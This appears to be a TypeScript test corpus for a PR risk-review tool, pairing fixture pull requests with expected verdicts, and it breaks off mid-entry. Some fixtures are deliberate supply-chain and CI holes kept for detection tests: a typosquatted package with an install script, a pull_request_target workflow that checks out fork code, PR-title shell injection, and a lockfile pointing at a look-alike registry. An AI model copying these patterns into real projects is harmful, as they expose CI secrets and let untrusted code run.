/**
 * The verdict corpus: realistic pull requests, each with the verdict a senior reviewer would give.
 *
 * Every entry is a PR spec built with makePrFixture (GitHub's real REST JSON, patches generated
 * from base/head contents so that lines anchor), plus what the signal must say about it: the risk
 * level, the suggested action, the risk drivers and supply-chain findings that must (or must not)
 * be there. test/corpus/corpus.test.ts runs each one through the real pipeline against the local
 * GitHub server; the benchmark reuses CORPUS. Nothing here starts a server or reads the clock:
 * every date is relative to CORPUS_NOW, the analysis time the tests pass in.
 *
 * Verdict choices worth stating:
 * - A Dependabot patch bump with its lockfile and green CI is `approve`: dependency bots are
 *   trusted automation (medium), the change is small and verified by CI. Maintainers merge these
 *   routinely (many auto-merge them); asking for a human comment on each would be noise.
 * - A Renovate major bump of a runtime dependency is `comment` at medium risk: breaking changes
 *   are the point of a major version, and green CI only proves what the tests cover.
 * - A stale PR with merge conflicts is `needs_discussion` with a resolve-conflicts recommendation.
 */
import { makePrFixture, type FixtureFile } from '../support/pr-fixture.js';
import { AI_AGENT_CASES } from './cases/ai-agents.js';
import { ATTACK_CASES } from './cases/attacks.js';
import { CODE_CASES } from './cases/code.js';
import { CALIBRATION_CASES } from './cases/calibration.js';
import { CI_CASES } from './cases/ci.js';
import { CI_ONLINE_CASES } from './cases/ci-online.js';
import { PACKAGE_CASES } from './cases/packages.js';
import {
  WEBAPP,
  WEBAPP_DEPS,
  WEBAPP_LOCKED,
  daysAgo,
  integrity,
  lines,
  nodeCi,
  packageJson,
  packageLock,
  withDeps,
  type CorpusEntry,
} from './helpers.js';

export { CORPUS_NOW, type CorpusEntry, type CorpusExpectation } from './helpers.js';

// ---------------------------------------------------------------------------------------------
// Source snippets (realistic enough to anchor comments on real lines).

const SESSION_BASE = lines(
  "import { randomBytes } from 'node:crypto';",
  "import type { Request, Response } from 'express';",
  "import { store } from './store.js';",
  '',
  'const SESSION_COOKIE = "sid";',
  'const MAX_AGE_MS = 8 * 60 * 60 * 1000;',
  '',
  'export async function createSession(res: Response, userId: string): Promise<string> {',
  "  const id = randomBytes(32).toString('base64url');",
  '  await store.set(id, { userId, createdAt: Date.now() }, MAX_AGE_MS);',
  "  res.cookie(SESSION_COOKIE, id, { httpOnly: true, secure: true, sameSite: 'lax', maxAge: MAX_AGE_MS });",
  '  return id;',
  '}',
  '',
  'export async function readSession(req: Request): Promise<{ userId: string } | null> {',
  '  const id = req.cookies?.[SESSION_COOKIE];',
  "  if (typeof id !== 'string') return null;",
  '  const session = await store.get(id);',
  '  return session ? { userId: session.userId } : null;',
  '}',
);

function sessionHead(): string {
  const extra: string[] = [];
  for (let i = 0; i < 14; i += 1) {
    extra.push(
      `export async function rotateSession${i === 0 ? '' : i}(req: Request, res: Response): Promise<string | null> {`,
      '  const current = await readSession(req);',
      '  if (current === null) return null;',
      '  const id = req.cookies?.[SESSION_COOKIE];',
      '  await store.delete(id);',
      '  return createSession(res, current.userId);',
      '}',
      '',
    );
  }
  return SESSION_BASE.replace('const MAX_AGE_MS = 8 * 60 * 60 * 1000;', 'const MAX_AGE_MS = 30 * 24 * 60 * 60 * 1000; // remember me')
    .replace("sameSite: 'lax'", "sameSite: 'none'")
    .concat('', extra.join('\n'));
}

const KEYS_BASE = lines(
  "import { createHmac, timingSafeEqual } from 'node:crypto';",
  '',
  'export function sign(value: string, secret: string): string {',
  "  return createHmac('sha256', secret).update(value).digest('base64url');",
  '}',
  '',
  'export function verify(value: string, signature: string, secret: string): boolean {',
  '  const expected = Buffer.from(sign(value, secret));',
  '  const given = Buffer.from(signature);',
  '  return expected.length === given.length && timingSafeEqual(expected, given);',
  '}',
);

const KEYS_HEAD = KEYS_BASE.replace(
  '  return expected.length === given.length && timingSafeEqual(expected, given);',
  lines(
    '  if (expected.length !== given.length) return false;',
    '  // Accept signatures made with the previous secret during key rotation.',
    '  if (timingSafeEqual(expected, given)) return true;',
    '  const previous = process.env.SESSION_SECRET_PREVIOUS;',
    '  if (!previous) return false;',
    '  const old = Buffer.from(sign(value, previous));',
    '  return old.length === given.length && timingSafeEqual(old, given);',
  ).trimEnd(),
);

function tsModule(name: string, body: string[]): string {
  return lines(`// ${name}`, ...body);
}

// ---------------------------------------------------------------------------------------------
// The corpus

const BASE_CASES: CorpusEntry[] = [
  {
    id: 'owner-docs-typo',
    description: "The owner fixes a typo in the README; docs build and tests green.",
    fixture: () =>
      makePrFixture({
        owner: 'mkessler',
        repo: 'tinyqueue',
        number: 212,
        title: 'docs: fix typo in README (recieve -> receive)',
        body: null,
        author: { login: 'mkessler', association: 'OWNER', createdAt: '2012-04-02T18:22:00Z', name: 'Maria Kessler' },
        headBranch: 'fix-readme-typo',
        files: [
          {
            path: 'README.md',
            base: lines('# tinyqueue', '', 'A small priority queue.', '', '## Usage', '', 'Workers recieve jobs in priority order:', '', '```js', "const q = new TinyQueue([7, 3, 5]);", 'q.pop(); // 3', '```'),
            head: lines('# tinyqueue', '', 'A small priority queue.', '', '## Usage', '', 'Workers receive jobs in priority order:', '', '```js', "const q = new TinyQueue([7, 3, 5]);", 'q.pop(); // 3', '```'),
          },
        ],
        commits: [{ message: 'docs: fix typo in README' }],
        checkRuns: [{ name: 'test' }, { name: 'docs' }],
        priorPrs: { total: 140, merged: 131 },
        createdAt: daysAgo(0, 3),
      }),
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['sensitive-paths', 'author-trust', 'size'] },
  },

  {
    id: 'dependabot-npm-patch',
    description: 'Dependabot bumps zod 4.1.11 -> 4.1.12 in package.json and package-lock.json; CI green.',
    fixture: () => {
      const headDeps = { ...WEBAPP_DEPS, zod: '^4.1.12' };
      const locked = WEBAPP_LOCKED.map((p) => (p.name === 'zod' ? { ...p, version: '4.1.12' } : p));
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1873,
        title: 'Bump zod from 4.1.11 to 4.1.12',
        body: 'Bumps [zod](https://github.com/colinhacks/zod) from 4.1.11 to 4.1.12.\n\n<details><summary>Release notes</summary>\n\n- fix: z.string().datetime() offset parsing\n</details>\n\nDependabot will resolve any conflicts with this PR as long as you don\'t alter it yourself.',
        author: { login: 'dependabot[bot]', association: 'CONTRIBUTOR', createdAt: '2019-04-16T22:34:25Z' },
        headBranch: 'dependabot/npm_and_yarn/zod-4.1.12',
        labels: ['dependencies', 'javascript'],
        files: [
          { path: 'package.json', base: packageJson(WEBAPP), head: packageJson({ ...WEBAPP, dependencies: headDeps }) },
          { path: 'package-lock.json', base: packageLock(WEBAPP, WEBAPP_LOCKED), head: packageLock({ ...WEBAPP, dependencies: headDeps }, locked) },
        ],
        commits: [
          {
            message: 'Bump zod from 4.1.11 to 4.1.12\n\nBumps [zod](https://github.com/colinhacks/zod) from 4.1.11 to 4.1.12.\n\n---\nupdated-dependencies:\n- dependency-name: zod\n  dependency-version: 4.1.12\n  dependency-type: direct:production\n  update-type: version-update:semver-patch\n...\n\nSigned-off-by: dependabot[bot] <support@github.com>',
            authorEmail: '49699333+dependabot[bot]@users.noreply.github.com',
            committerLogin: 'web-flow',
            committerName: 'GitHub',
            committerEmail: 'noreply@github.com',
            verified: true,
          },
        ],
        checkRuns: nodeCi(),
        dependencyChanges: [
          { changeType: 'removed', manifest: 'package-lock.json', ecosystem: 'npm', name: 'zod', version: '4.1.11' },
          { changeType: 'added', manifest: 'package-lock.json', ecosystem: 'npm', name: 'zod', version: '4.1.12' },
        ],
        createdAt: daysAgo(1),
      });
    },
    expect: { level: 'low', action: 'approve', noFindings: true, absentDrivers: ['new-dependencies', 'major-updates'] },
  },

  {
    id: 'dependabot-actions-bump',
    description: 'Dependabot moves actions/checkout v4 -> v5 and a SHA-pinned setup-node to a newer SHA in the CI workflow; CI green.',
    fixture: () => {
      const workflow = (checkout: string, setupNode: string) =>
        [
          'name: ci',
          'on:',
          '  pull_request:',
          '  push:',
          '    branches: [main]',
          'permissions:',
          '  contents: read',
          'jobs:',
          '  test:',
          '    runs-on: ubuntu-latest',
          '    steps:',
          `      - uses: actions/checkout@${checkout}`,
          `      - uses: actions/setup-node@${setupNode}`,
          '        with:',
          '          node-version: 20',
          '      - run: npm ci',
          '      - run: npm test',
          '',
        ].join('\n');
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1874,
        title: 'Bump the github-actions group with 2 updates',
        body: 'Bumps the github-actions group with 2 updates: [actions/checkout](https://github.com/actions/checkout) and [actions/setup-node](https://github.com/actions/setup-node).',
        author: { login: 'dependabot[bot]', association: 'CONTRIBUTOR', createdAt: '2019-04-16T22:34:25Z' },
        headBranch: 'dependabot/github_actions/github-actions-1a2b3c4d5e',
        labels: ['dependencies', 'github_actions'],
        files: [
          {
            path: '.github/workflows/ci.yml',
            base: workflow('v4', '1d0ff469b7ec7b3cb9d8673fde0c81c44821de2a # v4.2.0'),
            head: workflow('v5', '49933ea5288caeca8642d1e84afbd3f7d6820020 # v4.4.0'),
          },
        ],
        commits: [
          {
            message: 'Bump the github-actions group with 2 updates\n\nSigned-off-by: dependabot[bot] <support@github.com>',
            authorEmail: '49699333+dependabot[bot]@users.noreply.github.com',
            committerLogin: 'web-flow',
            committerName: 'GitHub',
            committerEmail: 'noreply@github.com',
            verified: true,
          },
        ],
        checkRuns: nodeCi(),
        createdAt: daysAgo(1),
      });
    },
    expect: { level: 'low', action: 'approve', absentDrivers: ['sensitive-paths'] },
  },

  {
    id: 'renovate-major-bump',
    description: 'Renovate updates the runtime dependency pino from v9 to v10 (major); CI green.',
    fixture: () => {
      const headDeps = { ...WEBAPP_DEPS, pino: '^10.1.0' };
      const locked = WEBAPP_LOCKED.map((p) => (p.name === 'pino' ? { ...p, version: '10.1.0' } : p));
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1880,
        title: 'fix(deps): update dependency pino to v10',
        body: 'This PR contains the following updates:\n\n| Package | Change | Age | Confidence |\n|---|---|---|---|\n| [pino](https://getpino.io) | [`^9.5.0` -> `^10.1.0`](https://renovatebot.com/diffs/npm/pino/9.5.0/10.1.0) | ... | ... |\n\n### Release Notes\n\n**v10.0.0**: drops Node 18; `transport` targets resolve relative to the caller.',
        author: { login: 'renovate[bot]', association: 'CONTRIBUTOR', createdAt: '2017-01-11T09:10:00Z' },
        headBranch: 'renovate/pino-10.x',
        labels: ['dependencies'],
        files: [
          { path: 'package.json', base: packageJson(WEBAPP), head: packageJson({ ...WEBAPP, dependencies: headDeps }) },
          { path: 'package-lock.json', base: packageLock(WEBAPP, WEBAPP_LOCKED), head: packageLock({ ...WEBAPP, dependencies: headDeps }, locked) },
        ],
        commits: [{ message: 'fix(deps): update dependency pino to v10', authorEmail: '29139614+renovate[bot]@users.noreply.github.com' }],
        checkRuns: nodeCi(),
        createdAt: daysAgo(2),
      });
    },
    expect: { level: 'medium', action: 'comment', drivers: ['major-updates'], noFindings: true },
  },

  {
    id: 'first-timer-new-dependency',
    description: 'A first-time contributor (account 3 days old, from a fork) adds date-fns and a date helper with a test; CI green.',
    fixture: () => {
      const headDeps = withDeps({ 'date-fns': '^4.1.0' });
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1891,
        title: 'Show order dates relative to now ("3 days ago")',
        body: 'Closes #1702. Uses date-fns formatDistanceToNow.',
        author: { login: 'tomasz-dev42', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: daysAgo(3) },
        fork: true,
        headBranch: 'relative-dates',
        files: [
          { path: 'package.json', base: packageJson(WEBAPP), head: packageJson({ ...WEBAPP, dependencies: headDeps }) },
          {
            path: 'package-lock.json',
            base: packageLock(WEBAPP, WEBAPP_LOCKED),
            head: packageLock({ ...WEBAPP, dependencies: headDeps }, [...WEBAPP_LOCKED, { name: 'date-fns', version: '4.1.0' }]),
          },
          {
            path: 'src/orders/format-date.ts',
            head: tsModule('Relative order dates.', [
              "import { formatDistanceToNow } from 'date-fns';",
              '',
              'export function relativeOrderDate(date: Date, now = new Date()): string {',
              '  if (date.getTime() > now.getTime()) return "just now";',
              '  return formatDistanceToNow(date, { addSuffix: true });',
              '}',
            ]),
          },
          {
            path: 'src/orders/format-date.test.ts',
            head: tsModule('Tests for relativeOrderDate.', [
              "import { describe, expect, it } from 'vitest';",
              "import { relativeOrderDate } from './format-date.js';",
              '',
              "describe('relativeOrderDate', () => {",
              "  it('says just now for future dates', () => {",
              "    expect(relativeOrderDate(new Date(Date.now() + 1000))).toBe('just now');",
              '  });',
              '});',
            ]),
          },
        ],
        commits: [{ message: 'feat(orders): relative order dates' }, { message: 'test: relativeOrderDate' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 1, merged: 0 },
        dependencyChanges: [{ changeType: 'added', manifest: 'package-lock.json', ecosystem: 'npm', name: 'date-fns', version: '4.1.0' }],
        createdAt: daysAgo(1),
      });
    },
    expect: { level: 'medium', action: 'comment', drivers: ['author-trust', 'new-dependencies'], noFindings: true, recommendations: ['verify-contributor', 'review-new-dependencies'] },
  },

  {
    id: 'first-timer-typosquat-install-script',
    description: 'A first-time contributor adds "lodahs" (a typo of lodash) whose lockfile entry has an install script.',
    fixture: () => {
      const headDeps = withDeps({ lodahs: '^4.17.21' });
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1894,
        title: 'Use lodash debounce for the search box',
        body: 'The search box fired a request on every key press.',
        author: { login: 'quickfix-dev', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: daysAgo(3) },
        fork: true,
        files: [
          { path: 'package.json', base: packageJson(WEBAPP), head: packageJson({ ...WEBAPP, dependencies: headDeps }) },
          {
            path: 'package-lock.json',
            base: packageLock(WEBAPP, WEBAPP_LOCKED),
            head: packageLock({ ...WEBAPP, dependencies: headDeps }, [...WEBAPP_LOCKED, { name: 'lodahs', version: '4.17.21', hasInstallScript: true, license: 'ISC' }]),
          },
          {
            path: 'src/search/search-box.ts',
            base: tsModule('Search box.', ['export function onInput(query: string, search: (q: string) => void): void {', '  search(query);', '}']),
            head: tsModule('Search box.', [
              "import debounce from 'lodahs/debounce.js';",
              '',
              'const debounced = debounce((query: string, search: (q: string) => void) => search(query), 250);',
              '',
              'export function onInput(query: string, search: (q: string) => void): void {',
              '  debounced(query, search);',
              '}',
            ]),
          },
        ],
        commits: [{ message: 'debounce search input' }],
        checkRuns: nodeCi(),
        createdAt: daysAgo(0, 5),
      });
    },
    expect: { level: 'critical', action: 'request_changes', drivers: ['finding:typosquat', 'author-trust'], findings: ['typosquat', 'npm-install-script'] },
  },

  {
    id: 'workflow-pr-target-checkout',
    description: 'The CI workflow moves to pull_request_target and checks out the PR head, then runs npm ci with NPM_TOKEN.',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1902,
        title: 'ci: let fork PRs upload coverage',
        body: 'Fork PRs cannot read secrets with pull_request; pull_request_target fixes that.',
        author: { login: 'lina-ops', association: 'CONTRIBUTOR', createdAt: '2019-09-30T08:00:00Z' },
        fork: true,
        files: [
          {
            path: '.github/workflows/ci.yml',
            base: lines(
              'name: CI',
              'on:',
              '  pull_request:',
              '    branches: [main]',
              'permissions:',
              '  contents: read',
              'jobs:',
              '  test:',
              '    runs-on: ubuntu-latest',
              '    steps:',
              '      - uses: actions/checkout@v4',
              '      - uses: actions/setup-node@v4',
              '        with:',
              '          node-version: 20',
              '          cache: npm',
              '      - run: npm ci',
              '      - run: npm test -- --coverage',
            ),
            head: lines(
              'name: CI',
              'on:',
              '  pull_request_target:',
              '    branches: [main]',
              '    types: [opened, synchronize, reopened]',
              'permissions:',
              '  contents: read',
              'jobs:',
              '  test:',
              '    runs-on: ubuntu-latest',
              '    steps:',
              '      - uses: actions/checkout@v4',
              '        with:',
              '          ref: ${{ github.event.pull_request.head.sha }}',
              '      - uses: actions/setup-node@v4',
              '        with:',
              '          node-version: 20',
              '          cache: npm',
              '      - run: npm ci',
              '      - run: npm test -- --coverage',
              '      - run: npx codecov --token "$CODECOV_TOKEN"',
              '        env:',
              '          CODECOV_TOKEN: ${{ secrets.CODECOV_TOKEN }}',
            ),
          },
        ],
        commits: [{ message: 'ci: use pull_request_target so fork PRs get the codecov token' }],
        checkRuns: [{ name: 'test' }],
        priorPrs: { total: 6, merged: 4 },
        createdAt: daysAgo(1),
      }),
    expect: { level: 'critical', action: 'request_changes', drivers: ['finding:gha-pr-target-checkout'], findings: ['gha-pr-target-checkout'] },
  },

  {
    id: 'workflow-template-injection',
    description: 'A new PR-title check interpolates ${{ github.event.pull_request.title }} into a run script.',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1907,
        title: 'ci: enforce Conventional Commits PR titles',
        author: { login: 'paul-m', association: 'MEMBER', createdAt: '2016-02-11T12:00:00Z' },
        files: [
          {
            path: '.github/workflows/pr-title.yml',
            head: lines(
              'name: PR title',
              'on:',
              '  pull_request:',
              '    types: [opened, edited, synchronize]',
              'permissions:',
              '  contents: read',
              'jobs:',
              '  check-title:',
              '    runs-on: ubuntu-latest',
              '    steps:',
              '      - name: Check the title',
              '        run: |',
              '          title="${{ github.event.pull_request.title }}"',
              "          if ! echo \"$title\" | grep -Eq '^(feat|fix|docs|chore|refactor|test|ci)(\\(.+\\))?: '; then",
              '            echo "::error::PR titles must follow Conventional Commits"',
              '            exit 1',
              '          fi',
            ),
          },
        ],
        commits: [{ message: 'ci: check PR titles' }],
        checkRuns: [...nodeCi(), { name: 'check-title' }],
        priorPrs: { total: 320, merged: 301 },
        createdAt: daysAgo(0, 6),
      }),
    expect: { level: 'high', action: 'request_changes', drivers: ['finding:gha-template-injection'], findings: ['gha-template-injection'] },
  },

  {
    id: 'lockfile-foreign-host',
    description: 'package-lock.json alone changes: ms@2.1.3 now resolves from another host with another hash.',
    fixture: () => {
      const locked = WEBAPP_LOCKED.map((p) =>
        p.name === 'ms' ? { ...p, resolved: 'https://registry.npmjs-cdn.org/ms/-/ms-2.1.3.tgz', integrity: integrity('ms@2.1.3 (tampered)') } : p,
      );
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1911,
        title: 'chore: regenerate lockfile',
        body: 'npm install kept failing behind the corporate proxy.',
        author: { login: 'dk-contrib', association: 'CONTRIBUTOR', createdAt: '2021-05-19T10:00:00Z' },
        fork: true,
        files: [{ path: 'package-lock.json', base: packageLock(WEBAPP, WEBAPP_LOCKED), head: packageLock(WEBAPP, locked) }],
        commits: [{ message: 'chore: regenerate package-lock.json' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 3, merged: 2 },
        createdAt: daysAgo(1),
      });
    },
    expect: { level: ['high', 'critical'], action: 'request_changes', drivers: ['finding:lockfile-foreign-host'], findings: ['lockfile-foreign-host', 'lockfile-integrity-changed', 'lockfile-without-manifest'] },
  },

  {
    id: 'python-typosquat',
    description: 'A webhook retry change adds "reqeusts" (a typo of requests) to requirements.txt.',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'hooks',
        number: 388,
        title: 'Retry webhook deliveries with backoff',
        author: { login: 'nh-py', association: 'FIRST_TIME_CONTRIBUTOR', createdAt: daysAgo(41) },
        fork: true,
        files: [
          {
            path: 'requirements.txt',
            base: lines('Flask==3.0.3', 'gunicorn==22.0.0', 'requests==2.32.3', 'SQLAlchemy==2.0.36'),
            head: lines('Flask==3.0.3', 'gunicorn==22.0.0', 'reqeusts==2.32.3', 'requests==2.32.3', 'SQLAlchemy==2.0.36', 'tenacity==9.0.0'),
          },
          {
            path: 'hooks/delivery.py',
            base: lines('import requests', '', '', 'def deliver(url, payload):', '    return requests.post(url, json=payload, timeout=10)'),
            head: lines(
              'import requests',
              'from tenacity import retry, stop_after_attempt, wait_exponential',
              '',
              '',
              '@retry(stop=stop_after_attempt(5), wait=wait_exponential(multiplier=1, max=30))',
              'def deliver(url, payload):',
              '    response = requests.post(url, json=payload, timeout=10)',
              '    response.raise_for_status()',
              '    return response',
            ),
          },
          {
            path: 'tests/test_delivery.py',
            base: lines('from hooks.delivery import deliver', '', '', 'def test_deliver(httpserver):', '    httpserver.expect_request("/").respond_with_data("ok")', '    assert deliver(httpserver.url_for("/"), {}).ok'),
            head: lines(
              'from hooks.delivery import deliver',
              '',
              '',
              'def test_deliver(httpserver):',
              '    httpserver.expect_request("/").respond_with_data("ok")',
              '    assert deliver(httpserver.url_for("/"), {}).ok',
              '',
              '',
              'def test_deliver_retries(httpserver):',
              '    httpserver.expect_ordered_request("/").respond_with_data("busy", status=503)',
              '    httpserver.expect_ordered_request("/").respond_with_data("ok")',
              '    assert deliver(httpserver.url_for("/"), {}).ok',
            ),
          },
        ],
        commits: [{ message: 'Retry webhook deliveries' }, { message: 'Add tests for retries' }],
        checkRuns: [{ name: 'pytest (3.12)' }, { name: 'pytest (3.13)' }, { name: 'ruff' }],
        createdAt: daysAgo(2),
      }),
    expect: { level: ['high', 'critical'], action: 'request_changes', drivers: ['finding:typosquat'], findings: ['typosquat'] },
  },

  {
    id: 'go-replace-fork',
    description: "go.mod replaces gorilla/websocket with a personal fork's pseudo-version.",
    fixture: () => {
      const goModBase = lines(
        'module github.com/acme/relay',
        '',
        'go 1.23',
        '',
        'require (',
        '\tgithub.com/gorilla/websocket v1.5.3',
        '\tgithub.com/prometheus/client_golang v1.20.5',
        '\tgolang.org/x/sync v0.8.0',
        ')',
      );
      const goModHead = `${goModBase}\nreplace github.com/gorilla/websocket => github.com/kvoss-dev/websocket v1.5.4-0.20261102153012-4f1c2a9e8b7d\n`;
      const goSumBase = lines(
        'github.com/gorilla/websocket v1.5.3 h1:saDtZ6Pbx/0u+bgYQ3q96pZgCzfhKXGPqt7kZ72aNNg=',
        'github.com/gorilla/websocket v1.5.3/go.mod h1:YR8l580nyteQvAITg2hZ9XVh4b55+EU/adAjf1fMHhE=',
        'golang.org/x/sync v0.8.0 h1:3NFvSEYkUoMifnESzZl15y791HH1qU2xm6eCJU5ZPXQ=',
        'golang.org/x/sync v0.8.0/go.mod h1:Czt+wKu1gCyEFDUtn0jG5QVvpJ6rzVqr5aXyt9drQfk=',
      );
      const goSumHead = `${goSumBase}github.com/kvoss-dev/websocket v1.5.4-0.20261102153012-4f1c2a9e8b7d h1:Qm9xZ2w3cGZkL0tLdm9zcy1kZXYvd2Vic29ja2V0LXYxLjUu=\ngithub.com/kvoss-dev/websocket v1.5.4-0.20261102153012-4f1c2a9e8b7d/go.mod h1:YR8l580nyteQvAITg2hZ9XVh4b55+EU/adAjf1fMHhE=\n`;
      return makePrFixture({
        owner: 'acme',
        repo: 'relay',
        number: 517,
        title: 'Fix close-frame race in websocket relay',
        body: 'Upstream has not merged the fix yet (gorilla/websocket#944); pointing at my fork until it does.',
        author: { login: 'kvoss-dev', association: 'CONTRIBUTOR', createdAt: '2020-01-20T00:00:00Z' },
        fork: true,
        files: [
          { path: 'go.mod', base: goModBase, head: goModHead },
          { path: 'go.sum', base: goSumBase, head: goSumHead },
        ],
        commits: [{ message: 'Use websocket fork with the close-frame fix' }],
        checkRuns: [{ name: 'go test ./...' }, { name: 'golangci-lint' }],
        priorPrs: { total: 9, merged: 7 },
        createdAt: daysAgo(3),
      });
    },
    expect: { level: 'medium', action: 'comment', drivers: ['finding:go-replace'], findings: ['go-replace'] },
  },

  {
    id: 'unpinned-third-party-action',
    description: 'A maintainer adds a docs deployment workflow using peaceiris/actions-gh-pages@v4 (a moving tag).',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1915,
        title: 'ci: deploy docs to GitHub Pages',
        author: { login: 'paul-m', association: 'MEMBER', createdAt: '2016-02-11T12:00:00Z' },
        files: [
          {
            path: '.github/workflows/docs.yml',
            head: lines(
              'name: Docs',
              'on:',
              '  push:',
              '    branches: [main]',
              'permissions:',
              '  contents: read',
              'jobs:',
              '  deploy:',
              '    runs-on: ubuntu-latest',
              '    permissions:',
              '      contents: write',
              '    steps:',
              '      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2',
              '      - run: npm ci && npm run docs',
              '      - uses: peaceiris/actions-gh-pages@v4',
              '        with:',
              '          github_token: ${{ secrets.GITHUB_TOKEN }}',
              '          publish_dir: ./site',
            ),
          },
        ],
        commits: [{ message: 'ci: deploy docs on push to main' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 320, merged: 301 },
        createdAt: daysAgo(0, 4),
      }),
    expect: { level: 'medium', action: 'comment', drivers: ['finding:gha-unpinned-action'], findings: ['gha-unpinned-action'] },
  },

  {
    id: 'large-refactor-failing-check',
    description: 'A member moves 64 storage files to a new adapter interface (2,200+ lines); one test job fails.',
    fixture: () => {
      const files: FixtureFile[] = [];
      const adapters = ['postgres', 'mysql', 'sqlite', 'redis', 'dynamo', 'mongo', 's3', 'gcs'];
      const parts = ['client', 'query', 'migrate', 'pool', 'errors', 'types'];
      for (const adapter of adapters) {
        for (const part of parts) files.push({ path: `src/storage/${adapter}/${part}.ts`, additions: 28, deletions: 11 });
        files.push({ path: `test/storage/${adapter}.test.ts`, additions: 12, deletions: 6 });
      }
      for (const name of ['adapter.ts', 'registry.ts', 'index.ts', 'errors.ts', 'retry.ts', 'config.ts', 'health.ts', 'metrics.ts']) {
        files.push({ path: `src/storage/${name}`, additions: 20, deletions: 9 });
      }
      return makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1920,
        title: 'refactor(storage): one adapter interface for every backend',
        body: 'Every backend now implements StorageAdapter. No behaviour change intended.',
        author: { login: 'rgupta', association: 'MEMBER', createdAt: '2015-10-01T00:00:00Z' },
        files,
        commits: [
          { message: 'refactor(storage): introduce StorageAdapter' },
          { message: 'refactor(storage): port postgres and mysql' },
          { message: 'refactor(storage): port the rest' },
          { message: 'test(storage): update adapter tests' },
        ],
        checkRuns: nodeCi({ 'test (22.x)': { conclusion: 'failure' } }),
        priorPrs: { total: 210, merged: 198 },
        createdAt: daysAgo(2),
      });
    },
    expect: { level: ['medium', 'high'], action: 'request_changes', drivers: ['ci-failing', 'size'], noFindings: true, recommendations: ['fix-failing-checks', 'split'] },
  },

  {
    id: 'stale-with-conflicts',
    description: 'A 90-day-old PR, idle for two months, 150 commits behind main and in conflict.',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1604,
        title: 'Add CSV export to the orders page',
        author: { login: 'jwong', association: 'CONTRIBUTOR', createdAt: '2018-03-03T00:00:00Z' },
        fork: true,
        files: [
          { path: 'src/orders/export-csv.ts', additions: 64 },
          { path: 'src/orders/export-csv.test.ts', additions: 41 },
          { path: 'src/orders/page.tsx', additions: 12, deletions: 3 },
        ],
        commits: [{ message: 'orders: export as CSV' }, { message: 'orders: test CSV export' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 5, merged: 3 },
        behindBy: 150,
        mergeable: false,
        mergeableState: 'dirty',
        createdAt: daysAgo(90),
        updatedAt: daysAgo(62),
      }),
    expect: { level: ['low', 'medium'], action: 'needs_discussion', recommendations: ['resolve-conflicts'] },
  },

  {
    id: 'security-sensitive-no-tests',
    description: 'A contributor changes session handling and HMAC verification (src/auth, src/crypto) without tests.',
    fixture: () =>
      makePrFixture({
        owner: 'acme',
        repo: 'storefront',
        number: 1924,
        title: 'Remember-me sessions and secret rotation',
        author: { login: 'jwong', association: 'CONTRIBUTOR', createdAt: '2018-03-03T00:00:00Z' },
        fork: true,
        files: [
          { path: 'src/auth/session.ts', base: SESSION_BASE, head: sessionHead() },
          { path: 'src/crypto/keys.ts', base: KEYS_BASE, head: KEYS_HEAD },
        ],
        commits: [{ message: 'auth: remember-me sessions' }, { message: 'crypto: accept the previous secret during rotation' }],
        checkRuns: nodeCi(),
        priorPrs: { total: 5, merged: 3 },
        createdAt: daysAgo(1),
      }),
    expect: { level: 'medium', action: ['comment', 'needs_discussion'], drivers: ['sensitive-paths', 'tests-missing'], noFindings: true, recommendations: ['security-review', 'add-tests'] },
  },

  {
    id: 'generated-protobuf-3500-files',
    description: 'A member regenerates protobuf code: 2 .proto files and 3,498 *.pb.go files (GitHub lists 3,000).',
    fixture: () => {
      const files: FixtureFile[] = [
        {
          path: 'proto/orders/v1/orders.proto',
          base: lines('syntax = "proto3";', 'package orders.v1;', '', 'message Order {', '  string id = 1;', '  int64 total_cents = 2;', '}'),
          head: lines('syntax = "proto3";', 'package orders.v1;', '', 'message Order {', '  string id = 1;', '  int64 total_cents = 2;', '  string currency = 3;', '}'),
        },
        {
          path: 'proto/buf.gen.yaml',
          base: lines('version: v2', 'plugins:', '  - remote: buf.build/protocolbuffers/go:v1.35.1', '    out: gen'),
          head: lines('version: v2', 'plugins:', '  - remote: buf.build/protocolbuffers/go:v1.35.2', '    out: gen'),
        },
      ];
      for (let i = 0; files.length < 3000; i += 1) {
        files.push({ path: `gen/go/svc${String(Math.floor(i / 20)).padStart(3, '0')}/v1/m${String(i % 20).padStart(2, '0')}.pb.go`, additions: 4, deletions: 4 });
      }
      return makePrFixture({
        owner: 'acme',
        repo: 'platform',
        number: 4410,
        title: 'Regenerate protobuf code with protoc-gen-go v1.35.2; add Order.currency',
        author: { login: 'svetlana-k', association: 'MEMBER', createdAt: '2014-07-07T00:00:00Z' },
        files,
        changedFiles: 3500,
        commits: [{ message: 'proto: add Order.currency' }, { message: 'gen: regenerate with protoc-gen-go v1.35.2' }],
        checkRuns: [{ name: 'buf lint' }, { name: 'buf breaking' }, { name: 'go test ./...' }],
        priorPrs: { total: 540, merged: 511 },
        createdAt: daysAgo(1),
      });
    },
    expect: {
      level: 'low',
      // GitHub lists 3,000 of the 3,500 files: the 500 it does not list were never seen, so no approve.
      action: 'comment',
      absentDrivers: ['size'],
      noFindings: true,
      warnings: ['GitHub lists only the first 3,000 of the 3,500 changed files'],
    },
  },

  {
    id: 'database-migration',
    description: 'A member adds an index migration and the query that uses it, with a test; CI green.',
    fixture: () =>
      makePrFixture({
